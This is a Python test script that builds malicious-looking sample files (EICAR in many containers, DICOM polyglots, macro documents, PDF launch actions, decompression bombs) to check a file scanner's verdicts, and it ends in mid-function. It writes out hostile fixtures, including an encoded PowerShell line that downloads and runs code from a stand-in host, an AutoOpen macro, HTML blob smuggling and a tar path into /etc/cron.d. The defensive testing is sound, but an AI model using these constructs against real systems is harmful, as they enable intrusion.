#!/usr/bin/env python3
"""`ward inspect` on real files: what is found in them, and that nothing is found in what is sound.

Usage: inspected.py WARD CONTENT

Made here: DICOM objects by dcmtk and polyglots of them, EICAR in every container, and containers in
each other, bombs, quines of archives, damaged files, mail. Taken from the system: programs, documents,
images and fonts of Debian. Nothing of it is run.
"""
import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pwd
import shutil
import signal
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib

WARD, CONTENT = (os.path.abspath(p) for p in sys.argv[1:3])
# In two halves, so that this file is none itself.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
failed = []


def run(paths, *options, environment=None):
    env = {k: v for k, v in os.environ.items() if k != "WARD_LANG"} | (environment or {})
    return subprocess.run([WARD, "inspect", "--content", CONTENT, "--clamd", "/nonexistent", *options, *paths],
                          capture_output=True, text=True, env=env)


def inspect(*paths):
    r = run(paths, "--json")
    if r.stderr:
        failed.append(r.stderr)
    return [json.loads(line) for line in r.stdout.splitlines()]


def reasons(report):
    return {r["reason"] for r in report["reasons"]}


def check(what, ok, report=None):
    if not ok:
        failed.append(f"{what}: {json.dumps(report)[:600] if report else ''}")


def write(name, data):
    with open(name, "wb") as f:
        f.write(data)
    return name


def archive(fmt, name, files):
    """One of the formats that libarchive writes, of (name, bytes)."""
    with tempfile.TemporaryDirectory() as d:
        for n, data in files:
            write(os.path.join(d, n), data)
        subprocess.run(["bsdtar", "-cf", os.path.abspath(name), "--format", fmt, "-C", d,
                        *[n for n, _ in files]], check=True)
    return name


def zipped(files, level=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", level) as z:
        for n, data in files:
            z.writestr(n, data)
    return b.getvalue()


def mail(attachments):
    parts = [b"From: a@hospital.example\r\nTo: b@hospital.example\r\nSubject: results\r\n"
             b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=b=\"\r\n\r\nnothing\r\n"]
    for name, kind, data in attachments:
        parts.append(b"--=b=\r\nContent-Type: " + kind + b"; name=\"" + name + b"\"\r\n"
                     b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"" + name +
                     b"\"\r\n\r\n" + base64.encodebytes(data) + b"\r\n")
    return b"".join(parts) + b"--=b=--\r\n"


def pdf(objects):
    """Objects as they are, numbered from 1; the last is the catalogue. Streams are (dictionary, bytes)."""
    out, at = bytearray(b"%PDF-1.7\n"), []
    for i, o in enumerate(objects, 1):
        at.append(len(out))
        if isinstance(o, tuple):
            o = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (o[0], len(o[1]), o[1])
        out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % a for a in at)
    return bytes(out + b"trailer << /Root %d 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n"
                 % (len(objects), len(objects) + 1, xref))


def dicom(name, lines):
    """By dump2dcm: one line per element."""
    write("dump.txt", "".join(line + "\n" for line in lines).encode())
    subprocess.run(["dump2dcm", "-q", "+Ug", "dump.txt", name], check=True)
    return name


IMAGE = ["(0008,0016) UI =SecondaryCaptureImageStorage", "(0008,0018) UI [1.2.3.4.5]",
         "(0010,0010) PN [Doe^Jane]", "(0028,0002) US 1", "(0028,0004) CS [MONOCHROME2]",
         "(0028,0010) US 4", "(0028,0011) US 4", "(0028,0100) US 8", "(0028,0101) US 8", "(0028,0102) US 7",
         "(0028,0103) US 0"]
PIXELS = "(7fe0,0010) OB " + "\\".join("%02x" % i for i in range(16))


def pixels(n):
    return "(7fe0,0010) OB " + "\\".join("%02x" % (i & 255) for i in range(n))


def hexed(data):
    return "\\".join("%02x" % b for b in data)


def patch(name, to, data):
    """The preamble of a DICOM object is another."""
    with open(name, "rb") as f:
        whole = f.read()
    return write(to, data.ljust(128, b"\0") + whole[128:])


def medical():
    with open("/bin/true", "rb") as f:
        elf = f.read()
    pe = windows_program()
    good = dicom("good.dcm", IMAGE + [PIXELS])
    r, = inspect(good)
    check("a DICOM image is clean", r["verdict"] == "clean" and r["identified"] == "dicom", r)
    want = {"mz.dcm": (pe[:128], "dicom-preamble-program", "malicious"),
            "elf.dcm": (elf[:128], "dicom-preamble-program", "malicious"),
            "html.dcm": (b"<html><script>alert(1)</script><!--", "dicom-preamble-script", "suspicious"),
            "sh.dcm": (b"#!/bin/sh\necho hello\nexit\n", "dicom-preamble-script", "suspicious"),
            "tiff.dcm": (b"II*\0\x08\0\0\0", "dicom-preamble-tiff", "clean"),
            "pdf.dcm": (b"%PDF-1.7\n1 0 obj <<", "two-kinds-at-once", "suspicious"),
            "odd.dcm": (b"\1\2\3", "dicom-preamble-other", "notice")}
    for name, (head, reason, verdict) in want.items():
        r, = inspect(patch(good, name, head))
        check(name, reason in reasons(r) and r["verdict"] == verdict, r)
        # It still is a DICOM object, to those who read one.
        check(name + " reads", subprocess.run(["dcmdump", "-q", name], capture_output=True).returncode == 0)
    r, = inspect(dicom("private.dcm", IMAGE + ["(0029,0010) LO [WARD TEST]", "(0029,1010) OB " + hexed(pe), PIXELS]))
    check("a program in a private element", "medical-carries-program" in reasons(r) and r["verdict"] == "malicious", r)
    check("it is named", any(x.get("b") == "(0029,1010)" for x in r["reasons"]), r)
    r, = inspect(dicom("pixels.dcm", IMAGE + [pixels(30)]))
    check("too many pixels", reasons(r) == {"dicom-pixel-length"}, r)
    write("doc.pdf", pdf([b"<< /Type /Catalog >>"]))
    subprocess.run(["pdf2dcm", "-q", "doc.pdf", "doc.dcm"], check=True)
    r, = inspect("doc.dcm")
    check("an encapsulated PDF is found, and sound", r["verdict"] == "clean" and
          any(p["identified"] == "pdf" for p in r["parts"]), r)
    with open("doc.dcm", "rb") as f:
        whole = f.read()
    at, body = whole.index(b"%PDF-"), pe[:os.path.getsize("doc.pdf")]
    r, = inspect(write("lie.dcm", whole[:at] + body + whole[at + len(body):]))
    check("a document that is a program", {"dicom-document-other-kind", "medical-carries-program"} <= reasons(r) and
          r["verdict"] == "malicious", r)
    with open(good, "rb") as f:
        whole = f.read()
    r, = inspect(write("syntax.dcm", whole.replace(b"1.2.840.10008.1.2.1\0", b"1.2.840.10008.1.2\0\0\0")))
    check("a transfer syntax that lies", "dicom-transfer-syntax" in reasons(r), r)
    for n in range(140, len(whole), 7):
        write("cut.dcm", whole[:n])
        r, = inspect("cut.dcm")
        check(f"cut at {n}", r["identified"] == "dicom" and not reasons(r) & {"cell-killed", "cell-time"}, r)
    ed = b"MSH|^~\\&|LAB|H|EPR|H|20260101||ORU^R01|1|P|2.5\rOBX|1|ED|PDF^R||LAB^application^pdf^Base64^%s||||||F\r"
    r, = inspect(write("good.hl7", ed % base64.b64encode(open("doc.pdf", "rb").read())))
    check("an HL7 attachment", r["identified"] == "hl7" and r["parts"][0]["identified"] == "pdf" and
          r["verdict"] == "clean", r)
    r, = inspect(write("bad.hl7", ed % base64.b64encode(pe)))
    check("a program in HL7", "medical-carries-program" in reasons(r) and r["verdict"] == "malicious", r)


def windows_program(section=b".text", flags=0x60000020, entry=0x1000):
    """A small program of Windows (PE32+), sound by default: heads, and one section that returns."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    optional = struct.pack("<HBBIIIII", 0x20b, 14, 0, 512, 0, 0, entry, 0x1000)
    optional += struct.pack("<QIIHHHHHHIIIIHH", 0x140000000, 0x1000, 512, 6, 0, 0, 0, 6, 0, 0, 0x2000, 512, 0, 3, 0x100)
    optional += struct.pack("<QQQQII", 1 << 20, 4096, 1 << 20, 4096, 0, 16) + bytes(128)
    table = section.ljust(8, b"\0") + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, flags)
    return (dos + coff + optional + table).ljust(512, b"\0") + b"\x31\xc0\xc3".ljust(512, b"\xcc")


def eicar():
    inside = [("eicar.com", EICAR)]
    made = {
        "e.zip": zipped(inside), "stored.zip": zipped(inside, zipfile.ZIP_STORED),
        "e.gz": gzip.compress(EICAR), "e.bz2": bz2.compress(EICAR), "e.xz": lzma.compress(EICAR),
        "e.lzma": lzma.compress(EICAR, lzma.FORMAT_ALONE), "e.eml": mail([(b"x.txt", b"text/plain", EICAR)]),
        "e.pdf": pdf([(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(EICAR)), b"<< /Type /Catalog >>"]),
        "hex.pdf": pdf([(b"/Type /EmbeddedFile /Filter [/ASCIIHexDecode /FlateDecode]",
                         zlib.compress(EICAR).hex().encode() + b">"), b"<< /Type /Catalog >>"]),
        "a85.pdf": pdf([(b"/Filter [/ASCII85Decode]", base64.a85encode(EICAR) + b"~>"), b"<< /Type /Catalog >>"]),
        "e.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata " + EICAR.hex().encode() + b"}}}",
        "e.png": png() + EICAR, "e.docx": zipped([("[Content_Types].xml", b"<?xml version='1.0'?><Types/>"),
                                                  ("word/media/x.bin", EICAR)]),
        "e.ole": compound([("WordDocument", bytes(5000)), ("data", EICAR), ("large", bytes(500) + EICAR + bytes(6000))]),
        "e.hl7": b"MSH|^~\\&|A\rOBX|1|ED|X||A^application^octet-stream^Base64^" + base64.b64encode(EICAR) + b"\r",
        "e.com": EICAR,
    }
    for name, data in made.items():
        write(name, data)
    for fmt in ("7zip", "ustar", "pax", "cpio", "newc", "iso9660", "xar", "arbsd"):
        archive(fmt, "e." + fmt, inside)
        made["e." + fmt] = None
    for ending in ("Z", "zst", "lz4", "lz"):
        subprocess.run(["bsdtar", "-acf", "e.tar." + ending, "e.com"], check=True)
        made["e.tar." + ending] = None
    dicom("e.dcm", IMAGE + ["(0029,0010) LO [WARD TEST]", "(0029,1010) OB " + hexed(zipped(inside)), PIXELS])
    made["e.dcm"] = None
    # each container in each of some others
    for outer, wrap in {"in.zip": lambda n, d: zipped([(n, d)]), "in.gz": lambda n, d: gzip.compress(d),
                        "in.eml": lambda n, d: mail([(n.encode(), b"application/octet-stream", d)]),
                        "in.pdf": lambda n, d: pdf([(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(d)),
                                                    b"<< /Type /Catalog >>"]),
                        "in.tar": lambda n, d: tarred([(n, d)])}.items():
        for name in list(made):
            if not name.startswith("nested-"):
                with open(name, "rb") as f:
                    inner = "nested-" + name + "-" + outer
                    write(inner, wrap(name, f.read()))
                    made[inner] = None
    for name, r in zip(made, inspect(*made)):
        found = [x for x in r["reasons"] if x["reason"] == "rule" and x.get("a") == "eicar"]
        check(f"EICAR in {name}", found and r["verdict"] == "malicious", r)
    print(f"EICAR found in {len(made)} containers")


def tarred(files):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return b.getvalue()


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))


def compound(streams):
    """A compound file (MS-CFB) of sectors of 512 bytes; short streams in the mini stream."""
    end, free, fatsect = 0xfffffffe, 0xffffffff, 0xfffffffd
    sectors, fat, mini, minifat, entries = [], [], bytearray(), [], []

    def place(data):
        first = len(sectors)
        for i in range(0, len(data), 512):
            sectors.append(data[i:i + 512].ljust(512, b"\0"))
            fat.append(len(sectors))
        fat[-1] = end
        return first
    for name, data in streams:
        if len(data) < 4096:
            first = len(minifat)
            for i in range(0, len(data), 64):
                mini += data[i:i + 64].ljust(64, b"\0")
                minifat.append(len(minifat) + 1)
            minifat[-1] = end
        else:
            first = place(data)
        entries.append((name, 2, first, len(data)))
    root = place(bytes(mini)) if mini else end
    mf = place(struct.pack(f"<{len(minifat)}I", *minifat).ljust(512, b"\xff")) if minifat else end
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") +
        struct.pack("<HBBIII16sIQQIQ", 2 * len(name) + 2, kind, 1, free, free, 1 if kind == 5 and len(entries) else free,
                    bytes(16), 0, 0, 0, first, size)
        for name, kind, first, size in [("Root Entry", 5, root, len(mini))] + entries)
    directory_at = place(directory)
    fat_at = len(sectors)
    fat.append(fatsect)
    sectors.append(struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff"))
    head = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) +
            struct.pack("<HHHHH6sIIIIIIIIII", 0x3e, 3, 0xfffe, 9, 6, bytes(6), 0, 1, directory_at, 0, 4096, mf,
                        1 if minifat else 0, end, 0, fat_at)).ljust(512, b"\xff")
    return head + b"".join(sectors)


def limits():
    deep = EICAR
    for i in range(100):
        deep = zipped([(f"{i}.zip", deep)])
    r, = inspect(write("deep.zip", deep))
    check("100 deep", "too-deep" in reasons(r), r)
    bomb = zipped([(f"{i}", bytes(64 << 20)) for i in range(4)])
    r, = inspect(write("bomb.zip", bomb))
    check("a bomb", "bomb" in reasons(r) and r["verdict"] != "clean", r)
    r, = inspect(write("bomb.gz", gzip.compress(gzip.compress(bytes(200 << 20)))))
    check("a bomb in gzip", "bomb" in reasons(r), r)
    r, = inspect(write("many.zip", zipped([(f"{i}.txt", b"%d" % i) for i in range(6000)])))
    check("too many", "too-many" in reasons(r), r)
    r, = inspect(write("r.gz", quine()))
    check("an archive that contains itself", "contains-itself" in reasons(r), r)
    whole = zipped([("a.txt", os.urandom(3000)), ("b.txt", b"b" * 3000)])
    for n in range(1, len(whole), 301):
        r, = inspect(write("cut.zip", whole[:n]))
        check(f"a ZIP cut at {n}", not reasons(r) & {"cell-killed", "cell-time"}, r)
    subprocess.run(["zip", "-q", "-P", "secret", "locked.zip", "e.com"], check=True)
    r, = inspect("locked.zip")
    check("a password", "password-protected" in reasons(r), r)
    r, = inspect(write("slip.tar", tarred([("../../etc/cron.d/x", b"* * * * * root true\n")])))
    check("a path that leads out", "path-leads-out" in reasons(r) and r["verdict"] == "suspicious", r)
    cyclic = bytearray(compound([("a", bytes(9000)), ("b", bytes(100))]))
    at = 512 * (1 + struct.unpack_from("<I", cyclic, 76)[0])
    struct.pack_into("<I", cyclic, at, 0)  # the first sector follows itself
    r, = inspect(write("cyclic.ole", bytes(cyclic)))
    check("a chain that is a cycle", not reasons(r) & {"cell-killed", "cell-time"}, r)


def quine():
    """A gzip file that unpacks to itself, but for the checksum in its end (the construction is R. Cox's, 2010): each
    instruction has 5 bytes, head and end have 15."""
    bits = []

    def put(value, n, msb=False):
        bits.extend((value >> (n - 1 - i if msb else i)) & 1 for i in range(n))
    put(2, 3)  # not the last block, fixed codes (RFC 1951 3.2.6)
    for _ in range(2):  # 10 bytes from 20 back
        put(8, 7, True)
        put(8, 5, True)
        put(3, 3)
    put(0, 7)
    back = bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, 40, 8))

    def lit(units):
        return struct.pack("<BHH", 0, 5 * units, 0xffff ^ 5 * units)
    head = bytes.fromhex("1f8b0808000000000003") + b"self\0"
    end = bytes.fromhex("0208100000ffff") + bytes(8)
    l0, l1, l4 = lit(0), lit(1), lit(4)
    whole = b"".join([head, l4, head, l4, back, l1, back, l1, l1, l4, back, l1, l1, l4, back, l4, back, l4, back, l4,
                      back, l4, back, l0, l0, l4, back, l0, l0, l4, back, end, back, end])
    assert zlib.decompress(whole[15:-8], -15) == whole
    return whole


def names():
    pe = windows_program()
    r, = inspect(write("scan.pdf", pe))
    check("a program named as a document", "name-hides-program" in reasons(r) and r["verdict"] == "suspicious", r)
    r, = inspect(write("result.pdf.exe", pe))
    check("two endings", "name-double-ending" in reasons(r) and r["verdict"] == "suspicious", r)
    r, = inspect(write("invoice\u202efdp.exe", pe))
    check("a name that turns", "name-turns-direction" in reasons(r), r)
    r = json.loads(run([write("x.bin", png())], "--json", "--type", "application/pdf").stdout)
    check("a type that lies", reasons(r) == {"type-other-kind"}, r)
    r, = inspect(write("m.eml", mail([(b"letter.exe", b"application/pdf", pe)])))
    check("a program by mail", {"mail-carries-program", "type-other-kind"} <= reasons(r) and
          r["verdict"] == "suspicious", r)
    r, = inspect(write("act.pdf", pdf([b"<< /S /JavaScript /JS (app.alert(1)) >>",
                                       b"<< /Type /Catalog /Open#41ction 1 0 R >>"])))
    check("a PDF that acts", {"pdf-script", "pdf-acts-when-opened"} <= reasons(r), r)
    order = base64.b64encode("Write-Host 1; IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
                             .encode("utf-16-le"))
    r, = inspect(write("run.bat", b"powershell -w hidden -enc " + order + b"\r\n"))
    check("an encoded order", {"script-obfuscated", "script-fetches-and-runs"} <= reasons(r) and
          any(p["identified"] == "powershell" for p in r["parts"]), r)
    r, = inspect(write("wide.ps1", "iex (irm x); iex (New-Object Net.WebClient).DownloadString('x')\r\n"
                       .encode("utf-16")))
    check("a script in UTF-16", "script-fetches-and-runs" in reasons(r), r)
    r, = inspect(write("page.html", b"<html><script>var d=atob('" + base64.b64encode(zipped([("e.com", EICAR)]) * 8) +
                       b"');a.href=URL.createObjectURL(new Blob([d]))</script></html>"))
    check("a page that smuggles", "script-obfuscated" in reasons(r) and r["verdict"] == "malicious", r)
    macro = (b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n"
             b"End Sub\r\n")
    r, = inspect(write("m.doc", compound([("WordDocument", bytes(5000)), ("M", b"\1" + vba(macro))])))
    check("a macro", {"macros", "macro-runs-by-itself", "macro-starts-programs"} <= reasons(r) and
          r["verdict"] == "suspicious", r)


def vba(text):
    """MS-OVBA 2.4.1 with letters as they are only."""
    body = b"".join(b"\0" + text[i:i + 8] for i in range(0, len(text), 8))
    return struct.pack("<H", 0xb000 | (len(body) - 1)) + body


def office(parts):
    return zipped([("[Content_Types].xml", b"<?xml version='1.0'?><Types/>")] + parts)


def shortcut(arguments):
    """MS-SHLLINK: a head, a relative path, arguments."""
    head = struct.pack("<I16sI", 0x4c, bytes.fromhex("0114020000000000c000000000000046"), 0x80 | 0x20 | 0x08)
    texts = b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in
                     ("..\\..\\Windows\\System32\\cmd.exe", arguments))
    return head.ljust(76, b"\0") + texts


def acting():
    """Each reason against programs, documents, images and shortcuts is reached, and by what it is about alone."""
    pe = windows_program()
    target = b'<?xml version="1.0"?><Relationships><Relationship Id="1" Type="http://schemas.example/%s" ' \
             b'Target="http://x.example/t" TargetMode="External"/></Relationships>'
    rtf = b"{\\rtf1{\\object%s{\\*\\objdata 0105000002000000}}}"
    want = {
        "good.exe": (pe, set()), "upx.exe": (windows_program(b"UPX0"), {"program-packed"}),
        "rwx.exe": (windows_program(flags=0xe0000020), {"program-writes-its-code"}),
        "out.exe": (windows_program(entry=0x9000), {"program-entry-outside"}),
        "inject.exe": (pe + b"VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0", {"program-injects"}),
        "short.exe": (pe[:100], {"damaged"}), "a.pdf" + " " * 40 + ".exe": (pe, {"name-padded", "name-double-ending"}),
        "in.pdf": (pdf([(b"/Type /EmbeddedFile", pe), b"<< /Type /Catalog >>"]), {"document-carries-program"}),
        "behind.png": (png() + pe, {"image-carries-program"}),
        "both.png": (png() + zipped([("a.txt", b"a")]), {"two-kinds-at-once"}),
        "launch.pdf": (pdf([b"<< /S /Launch /F (x) >>", b"<< /Type /Catalog >>"]), {"pdf-launches"}),
        "fetch.docx": (office([("word/_rels/settings.xml.rels", target % b"attachedTemplate")]), {"document-fetches"}),
        "link.docx": (office([("word/_rels/document.xml.rels", target % b"hyperlink")]), set()),
        "dde.docx": (office([("word/document.xml", b'<?xml version="1.0"?><w:instrText>DDEAUTO c:\\\\x "a"'
                              b"</w:instrText>")]), {"document-dde"}),
        "good.docx": (office([("word/document.xml", b'<?xml version="1.0"?><w:t>text</w:t>')]), set()),
        "update.rtf": (rtf % b"\\objupdate", {"embedded-object"}),
        "equation.rtf": (rtf % b"{\\*\\objclass Equation.3}", {"equation-object"}),
        "good.rtf": (b"{\\rtf1 text}", set()), "act.lnk": (shortcut("/c powershell"), {"shortcut-runs-interpreter"}),
        "good.png": (png(), set()),
    }
    for name, (data, _) in want.items():
        write(name, data)
    for (name, (_, reason)), r in zip(want.items(), inspect(*want)):
        check(name, reasons(r) == reason, r)
    os.makedirs("hospital", exist_ok=True)
    shutil.copy(os.path.join(CONTENT, "..", "pilots", "turin", "hospital.yml"), "hospital/hospital.yml")
    write("hospital/limits.yml", b"limits:\n  file.unpacked: 65536\n")
    r = json.loads(run([write("large.zip", zipped([("a", os.urandom(200000))]))], "--json", "--hospital",
                       "hospital").stdout)
    check("a file that unpacks to too much", reasons(r) == {"too-large"}, r)
    write("hospital/limits.yml", b"limits:\n  file.memory: 67108864\n")
    r = json.loads(run([write("fat.zip", zipped([("a", bytes(1 << 20) + os.urandom(120 << 20))], zipfile.ZIP_STORED))],
                       "--json", "--hospital", "hospital").stdout)
    check("a cell that has too little memory", "cell-memory" in reasons(r), r)
    os.unlink("hospital/limits.yml")


def lists():
    os.makedirs("hospital/inspect/rules", exist_ok=True)
    shutil.copy(os.path.join(CONTENT, "..", "pilots", "turin", "hospital.yml"), "hospital/hospital.yml")
    write("hospital/inspect/block.txt", b"# known bad\n" + hashlib.md5(b"bad\n").hexdigest().encode() + b"  a test\n")
    write("hospital/inspect/allow.txt", hashlib.sha256(open("e.zip", "rb").read()).hexdigest().encode() + b" ours\n")
    write("hospital/inspect/rules/own.yar", b'rule own { meta: says = "of ours" weight = 50 strings: $a = "quux" '
          b'condition: $a }\n')
    r = [json.loads(x) for x in run([write("bad.txt", b"bad\n"), "e.zip", write("own.txt", b"a quux\n")], "--json",
                                    "--hospital", "hospital").stdout.splitlines()]
    check("a block list", r[0]["verdict"] == "malicious" and reasons(r[0]) == {"blocked"}, r[0])
    check("an allow list", r[1]["verdict"] == "clean" and reasons(r[1]) == {"allowed"}, r[1])
    check("a rule of the hospital", r[2]["score"] == 50 and r[2]["reasons"][0]["a"] == "own", r[2])
    write("hospital/inspect/block.txt", b"nonsense\n")
    write("hospital/inspect/rules/own.yar", b"rule own {\n condition: nonsense }\n")
    r = run(["e.zip"], "--hospital", "hospital")
    check("what is wrong is named", r.returncode == 3 and "block.txt:1" in r.stderr and "own.yar:2" in r.stderr and
          not r.stdout, {"stderr": r.stderr})


def shared():
    """Hashes that others share: MISP events, also as a feed's folder, and STIX 2.1 bundles."""
    bad = {n: f"shared {n}\n".encode() for n in ("md5", "sha1", "sha256", "second", "stix", "other", "quiet", "revoked")}
    hexes = {n: hashlib.new(n if n in ("md5", "sha1") else "sha256", d).hexdigest() for n, d in bad.items()}
    uuid = "5f6e0f8e-3c2c-4a4e-9a51-2f0d8f6b2c11"

    def attribute(kind, value, detect=True):
        return {"type": kind, "category": "Payload delivery", "to_ids": detect, "value": value, "comment": "",
                "uuid": uuid}
    event = {"Event": {"uuid": uuid, "info": "Loader by mail", "date": "2026-11-01", "threat_level_id": "2", "analysis": "2",
             "Attribute": [attribute("md5", hexes["md5"]), attribute("ip-dst", "192.0.2.7"),
                           attribute("filename|sha1", "a.exe|" + hexes["sha1"]),
                           attribute("sha256", hexes["quiet"], False)],
             "Object": [{"name": "file", "Attribute": [attribute("sha256", hexes["sha256"])]}]}}
    stamp = "2026-11-01T00:00:00.000Z"

    def indicator(n, pattern, **more):
        return {"type": "indicator", "spec_version": "2.1", "id": f"indicator--{uuid[:-1]}{n}", "created": stamp,
                "modified": stamp, "valid_from": stamp, "pattern_type": "stix", "name": "Dropper", "pattern": pattern} | more
    bundle = {"type": "bundle", "id": f"bundle--{uuid}", "objects": [
        indicator(1, f"[file:hashes.'SHA-256' = '{hexes['stix'].upper()}' AND file:size = 12]"),
        indicator(2, f"[file:hashes.'SHA-256' IN ('{hexes['second']}', '{hexes['other']}')]"),
        indicator(3, f"[file:hashes.'SHA-256' = '{hexes['revoked']}']", revoked=True)]}
    block = "hospital/inspect/block"
    shutil.rmtree("hospital/inspect")
    os.makedirs(block)
    write(f"{block}/{uuid}.json", json.dumps(event).encode())
    write(f"{block}/manifest.json", json.dumps({uuid: {"info": "Loader by mail"}}).encode())
    write(f"{block}/csirt.json", json.dumps(bundle).encode())
    paths = {n: write(f"shared-{n}.txt", d) for n, d in bad.items()}
    r = run(list(paths.values()), "--json", "--hospital", "hospital")
    verdicts = {n: json.loads(x) for n, x in zip(paths, r.stdout.splitlines())}
    for n in bad:
        listed = n not in ("quiet", "revoked")
        check(f"a shared hash: {n}", reasons(verdicts[n]) == ({"blocked"} if listed else set()), verdicts[n])
    check("what it is", verdicts["md5"]["reasons"][0]["a"] == "Loader by mail" and
          verdicts["stix"]["reasons"][0]["a"] == "Dropper", verdicts["md5"])
    shutil.rmtree(block)
    write("partner.json", json.dumps(bundle).encode())
    r = json.loads(run([paths["stix"]], "--json", "--indicators", "partner.json").stdout)
    check("an indicator that is named", reasons(r) == {"blocked"}, r)
    os.makedirs(block)
    write(f"{block}/bad.json", b'{"neither": 1}\n')
    r = run([paths["stix"]], "--hospital", "hospital")
    check("a document of another kind is named", r.returncode == 3 and "bad.json:1" in r.stderr, {"stderr": r.stderr})
    os.chmod(block, 0)  # as its owner, also when that is root
    may = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"] if os.getuid() == 0 else []
    r = subprocess.run([*may, WARD, "inspect", "--content", CONTENT, "--hospital", "hospital", paths["stix"]],
                       capture_output=True, text=True)
    os.chmod(block, 0o755)
    check("a folder that can't be read is named", r.returncode == 3 and "block" in r.stderr and not r.stdout, {"stderr": r.stderr})
    shutil.rmtree(block)


def lzw(data, early=1):
    """As PDF has it (ISO 32000-1 7.4.4): the highest bit first, codes longer one early, or not."""
    bits, table, width, held = "", {bytes([i]): i for i in range(256)}, 9, b""
    put = [(256, 9)]
    following = 258
    for b in data:
        if held + bytes([b]) in table:
            held += bytes([b])
            continue
        put.append((table[held], width))
        table[held + bytes([b])] = following
        following += 1
        longer = following - (1 - early)
        width = 12 if longer >= 2048 else 11 if longer >= 1024 else 10 if longer >= 512 else 9
        held = bytes([b])
        if following >= 4094:
            put.append((256, width))
            table, following, width = {bytes([i]): i for i in range(256)}, 258, 9
    put += [(table[held], width), (257, width)]
    bits = "".join(f"{c:0{n}b}" for c, n in put)
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))


def paper(filters, body):
    return (b"%%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
            b"endobj\n3 0 obj\n<< /Length %d /Filter [%s] >>\nstream\n" % (len(body), filters) + body +
            b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%EOF\n")


def papers():
    """Streams of PDF behind each filter, in chains, and encrypted so that no password is asked for."""
    random = bytes(i * i * 7 // 3 & 0xff for i in range(30000))
    body = random + EICAR + b"a" * 9000
    runs = b"".join(bytes([len(body[i:i + 128]) - 1]) + body[i:i + 128] for i in range(0, len(body), 128)) + b"\x80"
    for name, filters, coded in (
            ("lzw", b"/LZWDecode", lzw(body)), ("lzw-short", b"/LZW", lzw(body)), ("runs", b"/RunLengthDecode", runs),
            ("chain", b"/ASCII85Decode /LZWDecode", base64.a85encode(lzw(body)) + b"~>"),
            ("three", b"/AHx /Fl /RL", zlib.compress(runs).hex().encode() + b">"),
            ("four", b"/A85 /AHx /LZW /Fl", base64.a85encode(lzw(zlib.compress(body)).hex().encode() + b">") + b"~>")):
        r, = inspect(write(f"{name}.pdf", paper(filters, coded)))
        check(f"a PDF stream: {name}", "rule" in reasons(r) and len(body) in [p["size"] for p in r["parts"]], r)
    r, = inspect(write("runs-bomb.pdf", paper(b"/RL /RL /RL /RL", (b"\x81\x81" * 900000))))
    check("runs of runs", not reasons(r) & {"cell-killed", "cell-memory", "cell-time"}, r)
    if not shutil.which("qpdf"):
        print("qpdf is not installed: encrypted PDF was not tried")
        return
    write("plain.pdf", paper(b"/FlateDecode", zlib.compress(b"x")))
    subprocess.run(["qpdf", "--warning-exit-0", "plain.pdf", "--add-attachment", "e.com", "--", "with.pdf"], check=True,
                   stderr=subprocess.DEVNULL)
    for name, how in (("40", ["40"]), ("128", ["128", "--use-aes=n"]), ("aes", ["128", "--use-aes=y"]),
                      ("clear", ["128", "--use-aes=y", "--cleartext-metadata"]), ("256", ["256"]), ("r5", ["256", "--force-R5"])):
        for objects in ("disable", "generate"):
            subprocess.run(["qpdf", "--allow-weak-crypto", f"--object-streams={objects}", "with.pdf", "--encrypt", "", "owner",
                            *how, "--", "locked.pdf"], check=True, stderr=subprocess.DEVNULL)
            r, = inspect("locked.pdf")
            check(f"a PDF without a password: {name} {objects}", "rule" in reasons(r) and
                  "password-protected" not in reasons(r), r)
        subprocess.run(["qpdf", "--allow-weak-crypto", "with.pdf", "--encrypt", "user", "owner", *how, "--", "locked.pdf"],
                       check=True, stderr=subprocess.DEVNULL)
        r, = inspect("locked.pdf")
        check(f"a PDF with a password: {name}", reasons(r) == {"password-protected"}, r)
        with open("locked.pdf", "rb") as f:
            locked = f.read()
        decoy = encryption(9, 1)[1].split(b"\n")[1]  # another, in a comment, that needs none
